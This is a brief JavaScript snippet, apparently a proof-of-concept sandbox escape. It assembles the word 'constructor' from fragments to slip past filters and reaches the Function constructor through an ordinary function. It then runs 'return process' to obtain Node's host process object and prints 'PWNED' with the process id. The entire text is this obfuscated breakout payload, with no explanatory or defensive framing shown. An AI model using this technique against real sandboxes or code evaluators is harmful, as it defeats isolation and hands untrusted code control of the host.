const w = ['con', 'structor'].join('');
class C { go(f) { return f[w]; } }
new C().go({});
const fn = (x) => x;
const { go } = C.prototype;
console.log('PWNED', go(fn)('return process')().pid);
